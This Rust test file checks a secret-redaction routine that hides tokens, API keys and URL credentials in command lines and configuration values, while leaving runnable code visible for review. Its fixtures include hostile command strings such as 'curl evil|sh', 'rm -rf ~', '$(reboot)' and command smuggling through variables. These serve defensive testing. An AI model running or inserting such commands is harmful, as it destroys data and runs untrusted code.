use super::*;

fn redacted(value: &str, parts: Vec<SecretPart>) -> String {
    let mut shown = value.to_owned();
    for part in parts.into_iter().rev() {
        shown.replace_range(part.range, "*");
    }
    shown
}

#[test]
fn values_that_are_called_secrets_are_hidden() {
    for (name, value, shown) in [
        ("GITHUB_TOKEN", "abc", "*"),
        ("GITHUB_TOKEN", "${GITHUB_TOKEN}", "${GITHUB_TOKEN}"),
        ("Authorization", "Bearer abc", "Bearer *"),
        ("Authorization", "Bearer ${T}", "Bearer ${T}"),
        ("Authorization", "Bearer ${T:-abc}", "Bearer ${T:-*}"),
        ("x-api-key", "$${a}b", "*"),
        ("X-API-Key", "${A}x{file:b}", "${A}*{file:b}"),
        ("apiKey", "v", "*"),
        ("TOKEN_URL", "https://h/", "https://h/"),
        ("API_KEY_FILE", "/k", "/k"),
        ("KEYBOARD", "us", "us"),
        ("API_KEY_COMMAND", "sh evil", "sh evil"),
        ("BASH_ENV", "http://$(reboot)@h/ bearer $(reboot)", "http://$(reboot)@h/ bearer $(reboot)"),
        ("PATH", "/bin", "/bin"),
        ("DATABASE", "postgres://u:p@h/db", "postgres://*@h/db"),
        ("NOTE", "ghp_0123456789abcdef0123", "*"),
        ("NOTE", "${X:-ghp_0123456789abcdef0123}", "${X:-*}"),
        ("NOTE", "a=${X:-sk-0123456789abcdef0123},b", "a=${X:-*},b"),
        ("NOTE", "${X:-info}", "${X:-info}"),
        ("BASE", "https://h/${X:-ghp_0123456789abcdef0123}/mcp", "https://h/${X:-*}/mcp"),
        (
            "HEADERS",
            r#"{"Authorization": "Bearer abc", "X": "1"}"#,
            r#"{"Authorization": "Bearer *", "X": "1"}"#,
        ),
        ("HEADERS", "Authorization=Bearer ${T}", "Authorization=Bearer ${T}"),
        ("NOTE", "${X:-ghp_0123456789abcdef0123:ghp_0123456789abcdef4567}", "${X:-*}"),
        ("NOTE", "${X:-sk-a1b2c3d4=sk-e5f6a7b8}:sk-c9d0e1f2", "${X:-*}:*"),
        ("NOTE", "sk-a1b2c3d4:-sk-e5f6a7b8", "*:-*"),
        ("BASE", "https://h/sk-a1b2c3d4:-sk-e5f6a7b8/mcp", "https://h/*/mcp"),
        ("URLS", "a=é://x,http://u@h/", "a=é://x,http://*@h/"),
        ("NOTE", "${API_TOKEN:-hunter2}", "${API_TOKEN:-*}"),
        ("CONFIG", r#"{"apiKey":"hush"}"#, r#"{"apiKey":"*"}"#),
        (
            "CONFIG",
            r#"{"a": {"url": "key", "my\"token" : "h \"u\" sh"}}"#,
            r#"{"a": {"url": "key", "my\"token" : "*"}}"#,
        ),
        (
            "CONFIG",
            r#"[{"secret": "a${X}b", "level": "key"}, "key"]"#,
            r#"[{"secret": "*${X}*", "level": "key"}, "key"]"#,
        ),
        ("CONFIG", r#"{"apiKey":"cut"#, r#"{"apiKey":"cut"#),
    ] {
        assert_eq!(redacted(value, find_in_value(name, value)), shown, "{name}={value}");
    }
}

fn redacted_args(args: &[&str]) -> Vec<String> {
    redacted_args_of("s", args)
}

fn redacted_args_of(command: &str, args: &[&str]) -> Vec<String> {
    let args: Vec<String> = args.iter().map(ToString::to_string).collect();
    args.iter().zip(find_in_args(command, &args)).map(|(arg, parts)| redacted(arg, parts)).collect()
}

#[test]
fn arguments_that_hold_secrets_are_hidden() {
    let args = [
        "-y",
        "@scope/server-everything@2025.11.25",
        "--api-key",
        "abc",
        "--token=abc",
        "-e",
        "DB_PASSWORD=abc",
        "-e",
        "LEVEL=1",
        "--header",
        "Authorization: Bearer abc",
        "--header",
        "X-Level: 2",
        "--key-file",
        "/k",
        "--secret",
        "--verbose",
        "https://h/mcp?api_key=abc&x=1",
        "--database-url=postgres://u:p@h/db",
        "--header=X-Api-Key: abc",
        "-H=X-Level: 2",
        "${API_TOKEN:-abc}",
        "${LEVEL:-abc}",
        "--token:abc",
        "--level:abc",
        "--bearer",
        "abc",
        "https://h/cb#access_token=abc",
    ];
    let expected = [
        "-y",
        "@scope/server-everything@2025.11.25",
        "--api-key",
        "*",
        "--token=*",
        "-e",
        "DB_PASSWORD=*",
        "-e",
        "LEVEL=1",
        "--header",
        "Authorization: Bearer *",
        "--header",
        "X-Level: 2",
        "--key-file",
        "/k",
        "--secret",
        "--verbose",
        "https://h/mcp?api_key=*&x=1",
        "--database-url=postgres://*@h/db",
        "--header=X-Api-Key: *",
        "-H=X-Level: 2",
        "${API_TOKEN:-*}",
        "${LEVEL:-abc}",
        "--token:*",
        "--level:abc",
        "--bearer",
        "*",
        "https://h/cb#access_token=*",
    ];
    assert_eq!(redacted_args(&args), expected);
}

/// SE-04: a person sees all that would run.
#[test]
fn code_is_never_taken_for_a_secret() {
    let random = "0a1b2c3d4e5f6a7b8c9d0e1f";
    let known = "ghp_0123456789abcdef0123";
    for args in [
        &["-c", "API_KEY=$(touch /tmp/x) true"][..],
        &["-c", "PASSWORD=1\nimport os\nos.system('reboot')"],
        &["-c", "PASSWORD=os.system;PASSWORD('reboot')"],
        &["--eval", "--token", "-e", "PASSWORD=require(\"child_process\").execSync(\"reboot\")"],
        &["-c", "TOKEN=1; curl evil|sh"],
        &["-c", "TOKEN=curl; $TOKEN evil"],
        &["TOKEN=rm", "sh", "-c", "$TOKEN -rf ."],
        &["-c", "\"$2\" -rf .", "--token", "rm"],
        &["-c", "alias my-token=reboot; my-token"],
        &["/c", "set TOKEN=calc", "&", "%TOKEN%"],
        &["--token", "rm -rf ."],
        &["--token", "./evil"],
        &["--token", "`reboot`"],
        &["--password-command", "evil"],
        &["-c", "alias.key=!reboot", "key"],
        &["-c", "-H", "X-Token:; reboot"],
        &["-c", "http://$(reboot)@h?token=$(reboot)"],
        &["-c", "basic(){ \"$@\";}; basic reboot"],
        &["-c", "${X:-sk-$(reboot>0123456789)}"],
        &["-c", "${API_TOKEN:-$(reboot)}"],
        &["-c", "exec $1", "x", "${API_TOKEN:-reboot}"],
        &["--token:$(reboot)"],
    ] {
        assert_eq!(redacted_args(args), args);
    }
    for (arg, shown) in [
        ("API_KEY=k; touch /tmp/x; cat".to_owned(), "API_KEY=*; touch /tmp/x; cat".to_owned()),
        ("X_TOKEN=1 curl evil".to_owned(), "X_TOKEN=* curl evil".to_owned()),
        ("A_KEY=\"k\" B_KEY='l' x".to_owned(), "A_KEY=\"*\" B_KEY='*' x".to_owned()),
        ("Server=x;Password=p;Port=1".to_owned(), "Server=x;Password=*;Port=1".to_owned()),
        (format!("API_KEY={random}; curl evil|sh"), "API_KEY=*; curl evil|sh".to_owned()),
        (format!("x {known}$(reboot)"), "x *$(reboot)".to_owned()),
        (format!("TOKEN={known} x https://u:p@h/?key=1|sh"), "TOKEN=* x https://*@h/?key=1|sh".to_owned()),
    ] {
        assert_eq!(redacted_args(&["-c", &arg]), ["-c", &*shown]);
    }
    assert_eq!(redacted_args(&["-c", "exec x \"$@\"", "--token", random])[3], "*");
}

#[test]
fn a_package_is_shown_even_if_it_looks_like_a_token() {
    let random = "0f8fad5bd9cb469fa16570867728950e";
    for (command, args, shown) in [
        ("npx", &["-y", "sk-learn-mcp-server@1.2.3"][..], &["-y", "sk-learn-mcp-server@1.2.3"][..]),
        ("npx", &["-y", "sk-live-S3CR3T0123456789"], &["-y", "sk-live-S3CR3T0123456789"]),
        ("npx", &["-y", "sk-S3CR3T@1.0.0"], &["-y", "sk-S3CR3T@1.0.0"]),
        ("npx", &["-y", random], &["-y", random]),
        ("npx", &["-y", "server", random, "sk-S3CR3T"], &["-y", "server", "*", "*"]),
        ("uvx", &["--from", "sk-learn-mcp-server", "run"], &["--from", "sk-learn-mcp-server", "run"]),
        ("uvx", &["--from", "sk-S3CR3T", "run", "sk-S3CR3T"], &["--from", "sk-S3CR3T", "run", "*"]),
        ("uvx", &["--with=sk-S3CR3T", "sk-a1b2c3d4"], &["--with=sk-S3CR3T", "sk-a1b2c3d4"]),
        ("cmd", &["/c", "npx", "sk-learn-mcp-server"], &["/c", "npx", "sk-learn-mcp-server"]),
        ("npx", &["server", "sk-learn-mcp-server"], &["server", "sk-learn-mcp-server"]),
        ("timeout", &["60", "npx", "-y", "sk-learn-server"], &["60", "npx", "-y", "sk-learn-server"]),
        ("s", &["--commit", random, "--database-id", random], &["--commit", random, "--database-id", random]),
    ] {
        assert_eq!(redacted_args_of(command, args), shown, "{command} {args:?}");
    }
}

/// SE-04: a person sees which package, script or program is run.
#[test]
fn what_is_run_is_shown_and_its_arguments_stay_hidden() {
    for (line, shown) in [
        // Packages of runners, also behind other programs.
        ("npx|--foo|x|-y|sk-a1b2c3d4|sk-e5f6a7b8", "npx|--foo|x|-y|sk-a1b2c3d4|*"),
        ("npx|--prefer-offline|server|--token|S", "npx|--prefer-offline|server|--token|*"),
        ("npx|--new-switch|server|--token|S", "npx|--new-switch|server|--token|*"),
        ("npx|-p|sk-a1b2c3d4|-c|sk-e5f6a7b8 --token=S", "npx|-p|sk-a1b2c3d4|-c|sk-e5f6a7b8 --token=*"),
        ("uvx|-n|sk-a1b2c3d4|-c|x|sk-e5f6a7b8", "uvx|-n|sk-a1b2c3d4|-c|x|sk-e5f6a7b8"),
        ("npm|exec|--|sk-a1b2c3d4|sk-e5f6a7b8", "npm|exec|--|sk-a1b2c3d4|*"),
        ("uv|--directory|/x|tool|run|sk-a1b2c3d4|sk-e5f6a7b8", "uv|--directory|/x|tool|run|sk-a1b2c3d4|*"),
        ("uv|run|--with|sk-a1b2c3d4|python|ghp_01234.py", "uv|run|--with|sk-a1b2c3d4|python|ghp_01234.py"),
        ("timeout|60|npx|-y|sk-a1b2c3d4|sk-e5f6a7b8", "timeout|60|npx|-y|sk-a1b2c3d4|*"),
        ("proxy|--stdio|npx -y sk-a1b2c3d4 sk-e5f6a7b8", "proxy|--stdio|npx -y sk-a1b2c3d4 *"),
        ("proxy|--token|S|--|npx|sk-a1b2c3d4", "proxy|--token|*|--|npx|sk-a1b2c3d4"),
        ("cmd|/d|/c|npx|-y|sk-a1b2c3d4|sk-e5f6a7b8", "cmd|/d|/c|npx|-y|sk-a1b2c3d4|*"),
        ("docker|run|-i|-e|T_KEY=S|sk-a1b2c3d4/x|sk-e5f6a7b8", "docker|run|-i|-e|T_KEY=*|sk-a1b2c3d4/x|*"),
        ("docker|run|image|start|--token|S", "docker|run|image|start|--token|*"),
        // Of a URL, the host and the path.
        (
            "uvx|--from|git+https://sk-S3CR3T@h/sk-a1b2c3d4?token=S|x",
            "uvx|--from|git+https://*@h/sk-a1b2c3d4?token=*|x",
        ),
        // Scripts of interpreters.
        ("node|ghp_0123456789|ghp_9876543210", "node|ghp_0123456789|*"),
        (
            "node|--no-warnings|--import|sk-a1b2c3d4|ghp_0123456789|--token|S",
            "node|--no-warnings|--import|sk-a1b2c3d4|ghp_0123456789|--token|*",
        ),
        ("/x/python3.12|-u|-m|ghp_0123456789|sk-S3CR3T", "/x/python3.12|-u|-m|ghp_0123456789|*"),
        ("python|-I|ghp_0123456789|--token|S", "python|-I|ghp_0123456789|--token|*"),
        ("python|-c|run('ghp_0123456789')", "python|-c|run('*')"),
        ("java|-Xmx1g|-jar|ghp_0123456789|ghp_9876543210", "java|-Xmx1g|-jar|ghp_0123456789|*"),
        ("bash|ghp_0123456789|ghp_9876543210", "bash|ghp_0123456789|*"),
        // Programs in code of shells.
        ("sh|-c|sk-a1b2c3d4", "sh|-c|sk-a1b2c3d4"),
        ("sh|-c|${API_TOKEN:-reboot}", "sh|-c|${API_TOKEN:-reboot}"),
        ("npx|-y|${API_TOKEN:-evil}|${API_TOKEN:-S}", "npx|-y|${API_TOKEN:-evil}|${API_TOKEN:-*}"),
        ("python|${API_TOKEN:-evil.py}", "python|${API_TOKEN:-evil.py}"),
        ("bash|-lc|T_KEY=sk-e5f6a7b8 exec sk-a1b2c3d4 sk-e5f6a7b8", "bash|-lc|T_KEY=* exec sk-a1b2c3d4 *"),
        ("sh|-ce|cd /x;npx -y 'sk-a1b2c3d4' sk-e5f6a7b8", "sh|-ce|cd /x;npx -y 'sk-a1b2c3d4' *"),
        (
            "sh|-c|exec \"$0\" \"$@\"|npx|sk-a1b2c3d4|sk-e5f6a7b8",
            "sh|-c|exec \"$0\" \"$@\"|npx|sk-a1b2c3d4|*",
        ),
        ("env|T_KEY=S|sk-a1b2c3d4|sk-e5f6a7b8", "env|T_KEY=*|sk-a1b2c3d4|*"),
        // Arguments of a server.
        ("s|sk-a1b2c3d4|--config|{\"key\":\"sk-e5f6a7b8\"}", "s|*|--config|{\"key\":\"*\"}"),
        ("s|--shell|bash|--token|S", "s|--shell|bash|--token|*"),
    ] {
        let words: Vec<&str> = line.split('|').collect();
        let hidden = redacted_args_of(words[0], &words[1..]);
        assert_eq!([&[words[0].to_owned()], &*hidden].concat().join("|"), shown);
    }
}

/// A file of somebody else may have any command.
#[test]
fn a_command_of_many_programs_is_searched_in_a_bounded_time() {
    for line in ["npx --u ", "-- env ", "-- npx --u x ", "$npx "] {
        let words: Vec<String> = line.repeat(5_000).split(' ').map(ToOwned::to_owned).collect();
        assert_eq!(find_in_args("s", &words).len(), words.len());
        assert_eq!(find_in_args("sh", &["-c".to_owned(), words.join(" ")]), [vec![], vec![]]);
        assert_eq!(find_in_variables("s", &words, &[("T".to_owned(), "x".to_owned())]), [vec![]]);
    }
}

/// SE-04: a variable that the command line uses may be run.
#[test]
fn variables_that_a_command_uses_are_searched_like_code() {
    let token = "ghp_0123456789abcdef0123";
    for (line, value, shown) in [
        ("sh|-c|eval $API_TOKEN", "rm -rf ~", "rm -rf ~"),
        ("sh|-c|eval $API_TOKEN", token, token),
        ("sh|-c|npx -y \"$API_TOKEN\"", token, token),
        ("sh|-c|$API_TOKEN -rf .", "rm", "rm"),
        ("cmd|/c|%api_token%", "evil", "evil"),
        ("pwsh|-Command|iex $env:api_token", "rm x", "rm x"),
        ("python|-c|import os; os.system(os.environ['API_TOKEN'])", "reboot now", "reboot now"),
        ("sh|-c|server --token \"$API_TOKEN\"", token, "*"),
        ("sh|-c|server --token \"$API_TOKEN\"", "x; reboot", "x; reboot"),
        ("sh|-c|exec server $OTHER", "two words", "*"),
        ("docker|run|-e|API_TOKEN|image", "hunter2", "*"),
        ("s|--token|${API_TOKEN}", "two words", "*"),
        ("node|/x/API_TOKEN/server.js", "hunter2", "*"),
    ] {
        let words: Vec<String> = line.split('|').map(ToOwned::to_owned).collect();
        let variables = [("API_TOKEN".to_owned(), value.to_owned())];
        let mut parts = find_in_variables(&words[0], &words[1..], &variables);
        assert_eq!(redacted(value, parts.remove(0)), shown, "{line} {value}");
    }
}

/// SE-04: a command line can take a member out of a variable and run it.
#[test]
fn members_of_variables_that_a_command_uses_are_searched_like_code() {
    for (line, shown) in [
        ("s", r#"{"token": "*"}"#),
        ("docker|run|-e|CONFIG|image", r#"{"token": "*"}"#),
        ("sh|-c|server \"$CONFIG\"", r#"{"token": "reboot"}"#),
        ("sh|-c|eval $CONFIG", r#"{"token": "reboot"}"#),
    ] {
        let words: Vec<String> = line.split('|').map(ToOwned::to_owned).collect();
        let (name, value) = ("CONFIG".to_owned(), r#"{"token": "reboot"}"#.to_owned());
        let mut parts = find_in_variables(&words[0], &words[1..], &[(name, value.clone())]);
        assert_eq!(redacted(&value, parts.remove(0)), shown, "{line}");
    }
}

#[test]
fn a_command_line_in_one_string_is_searched_like_arguments() {
    for (command, shown) in [
        ("python3 x --token S", "python3 x --token *"),
        ("python3  x --api-key=S -v", "python3  x --api-key=* -v"),
        ("x --token 'S' --key \"T\"", "x --token '*' --key \"*\""),
        ("x -H \"Authorization: Bearer S\" y", "x -H \"Authorization: Bearer *\" y"),
        ("x --header='Authorization: Bearer S'", "x --header='Authorization: Bearer *'"),
        ("npx -y sk-learn-mcp-server --key S", "npx -y sk-learn-mcp-server --key *"),
        ("npx -y sk-live-S3CR3T0123456789 sk-S3CR3T", "npx -y sk-live-S3CR3T0123456789 *"),
        ("sk-a1b2c3d4 --token S", "sk-a1b2c3d4 --token *"),
        ("x --token $(reboot)", "x --token $(reboot)"),
        ("x --token", "x --token"),
        ("C:\\Program Files\\server.exe", "C:\\Program Files\\server.exe"),
        ("--token", "--token"),
        ("", ""),
    ] {
        assert_eq!(redacted(command, find_in_command(command)), shown);
    }
}

#[test]
fn a_secret_in_a_default_stays_in_the_configuration() {
    let value = "${X:-ghp_0123456789abcdef0123:ghp_0123456789abcdef4567}";
    let parts = find_in_value("NOTE", value);
    assert_eq!(parts, [SecretPart { range: 5..value.len() - 1, is_storable: false }]);
}

#[test]
fn values_of_secrets_are_returned() {
    let words =
        ["x --pass 'p q'", "-H", "Authorization: Bearer T", "--token", "/k+1", "--db=postgres://u:p@h/d"];
    let words = words.map(ToOwned::to_owned);
    assert_eq!(secret_values_in_words(&words), ["T", "/k+1", "u:p", "p q"]);
    assert_eq!(secret_values_in_pair("API_TOKEN", "a;b"), ["a;b"]);
    assert_eq!(secret_values_in_pair("DB", "postgres://u:p@h/d"), ["u:p"]);
    assert!(secret_values_in_pair("LEVEL", "verbose").is_empty());
}

#[test]
fn a_word_in_doubt_is_a_secret_to_who_only_asks() {
    for words in [&["password=two words"][..], &["token=$x"], &["--token", "-a;b"]] {
        let words: Vec<String> = words.iter().map(ToString::to_string).collect();
        assert!(has_secret(&words), "{words:?}");
    }
}

#[test]
fn urls_show_what_is_no_secret() {
    for (url, shown) in [
        ("https://mcp.example.com/v1/mcp?x=1", "https://mcp.example.com/v1/mcp?x=1"),
        ("https://h/s/0f8fad5b-d9cb-469f-a165-70867728950e/mcp", "https://h/s/*/mcp"),
        ("https://u:p@h", "https://*@h"),
        ("https://h?token=a&b=c", "https://h?token=*&b=c"),
        ("https://h/?token=${T}", "https://h/?token=${T}"),
        ("not a url", "not a url"),
        ("https://h/#access_token=a&state=b", "https://h/#access_token=*&state=b"),
        ("https://h/mcp?a=b#token=c", "https://h/mcp?a=b#token=*"),
        ("https://h/mcp?token=a#b", "https://h/mcp?token=*"),
        ("https://h/#/page?token=a", "https://h/#/page?token=*"),
        ("https://h/mcp#top", "https://h/mcp#top"),
    ] {
        assert_eq!(redacted(url, find_in_url(url)), shown, "{url}");
    }
}
